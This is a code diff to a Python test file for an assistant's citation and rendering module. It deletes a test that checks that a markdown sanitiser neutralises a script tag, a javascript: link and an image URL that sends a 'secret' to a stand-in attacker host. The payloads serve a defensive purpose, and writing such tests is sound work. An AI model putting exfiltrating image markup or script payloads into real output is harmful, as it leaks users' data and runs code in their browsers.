@@ -7,7 +7,6 @@ from helpers import passage
 
 from assistant.answering.citations import Passage, numbers_supported, split_units, verify
 from assistant.index.embeddings import OnnxMiniLM
-from assistant.render import highlight, safe_markdown
 
 
 def _passage(n: int, text: str, embedder: OnnxMiniLM) -> Passage:
@@ -111,23 +110,3 @@ def test_an_uncited_sentence_is_cited_where_a_passage_supports_it_else_left_out(
     assert v.text == "Up to five unused days may be carried over [1]."  # the yacht is left out
     assert v.dropped == [yacht]
     assert (v.moved, v.removed, v.supported_sentences) == (1, 0, 1)
-
-
-def test_html_and_exfiltrating_markup_are_neutralised() -> None:
-    out = safe_markdown(
-        "<script>alert(1)</script> ![x](https://evil.example/p.png?d=secret) "
-        "[click](javascript:alert(1)) [docs](https://intranet.example/docs)"
-    )
-    assert "<script>" not in out and "&lt;script&gt;" in out
-    assert "evil.example" not in out
-    assert "javascript:" not in out and "click" in out
-    assert "[docs](https://intranet.example/docs)" in out
-
-
-def test_highlight_marks_the_snippet_across_line_breaks() -> None:
-    passage = (
-        "Leave accrues monthly. Up to five\nunused days may be carried over.\n\nNext paragraph."
-    )
-    out = highlight(passage, "Up to five unused days may be carried over.")
-    assert ":orange-background[Up to five unused days may be carried over.]" in out
-    assert "Next paragraph." in out
